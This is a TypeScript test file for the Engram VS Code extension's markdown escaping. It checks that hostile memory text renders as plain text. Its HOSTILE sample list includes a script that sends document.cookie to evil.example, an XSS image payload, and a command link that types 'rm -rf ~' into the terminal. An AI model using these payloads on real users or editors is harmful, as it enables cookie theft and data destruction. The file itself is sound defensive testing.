// Hostile memory text must render as plain text wherever Engram shows markdown. The rendering check
// uses markdown-it (present through @vscode/vsce) with HTML and linkify ON, stricter than VS Code.
import * as assert from 'assert';
import { commandUri, escapeBlock, escapeInline, fenceFor, stripControl } from '../../src/core/markdown';

interface Md { render(src: string): string }
const MarkdownIt = require('markdown-it') as new (opts: object) => Md;
const md = new MarkdownIt({ html: true, linkify: true });

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>fetch("https://evil.example/?"+document.cookie)</script>',
  '[click me](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%22%7D)',
  '![pixel](https://evil.example/leak.png?secret=1)',
  'see https://evil.example/path and www.evil.example and mail bob@evil.example',
  '<https://evil.example>',
  '[ref]: https://evil.example\n[x][ref]',
  '# Heading\n> quote\n| a | b |\n|---|---|',
  '**bold** _em_ `code` ~~strike~~',
  'command:engram.forget?%5B%22x%22%5D',
];

describe('markdown escaping', () => {
  for (const text of HOSTILE) {
    it(`renders inert: ${JSON.stringify(text).slice(0, 50)}`, () => {
      for (const escaped of [escapeInline(text), escapeBlock(text)]) {
        const html = md.render(escaped);
        assert.ok(!/<a[\s>]/i.test(html), `link rendered: ${html}`);
        assert.ok(!/<img/i.test(html), `image rendered: ${html}`);
        assert.ok(!/<script/i.test(html), `script rendered: ${html}`);
        assert.ok(!/<(h\d|blockquote|table|strong|em|code|s|del)[\s>]/i.test(html), `markup rendered: ${html}`);
      }
    });
  }

  it('keeps the visible words so the user still reads the memory', () => {
    const html = md.render(escapeInline('Use `npm ci` instead of npm install (lockfile drift)'));
    assert.match(html, /Use `npm ci` instead of npm install \(lockfile drift\)/);
  });

  it('drops control and bidi-override characters but keeps Korean text', () => {
    assert.strictEqual(stripControl('a\u0000b\u001b[31mc\u202Ed'), 'ab[31mcd');
    assert.strictEqual(escapeInline('모듈을 찾을 수 없음'), '모듈을 찾을 수 없음');
  });

  it('collapses newlines inline and caps length', () => {
    const e = escapeInline('line one\nline two\n\n# not a heading', 1000);
    assert.ok(!e.includes('\n'));
    assert.ok(escapeInline('x'.repeat(1000), 50).length <= 50);
  });

  it('keeps line breaks as hard breaks in block mode without starting blocks', () => {
    const html = md.render(escapeBlock('first\n# second\n- third'));
    assert.match(html, /first<br>\s*# second<br>\s*- third/);
  });

  it('encodes command arguments so an id cannot close the link', () => {
    const uri = commandUri('engram.markHelpful', ['x)](https://evil.example)']);
    assert.ok(!/[()[\]"' ]/.test(uri.slice('command:engram.markHelpful?'.length)), uri);
    const args = JSON.parse(decodeURIComponent(uri.split('?')[1])) as unknown;
    assert.deepStrictEqual(args, ['x)](https://evil.example)']);
  });

  it('picks a fence longer than any backtick run', () => {
    assert.strictEqual(fenceFor('no ticks'), '```');
    assert.strictEqual(fenceFor('a ```` b'), '`````');
  });
});
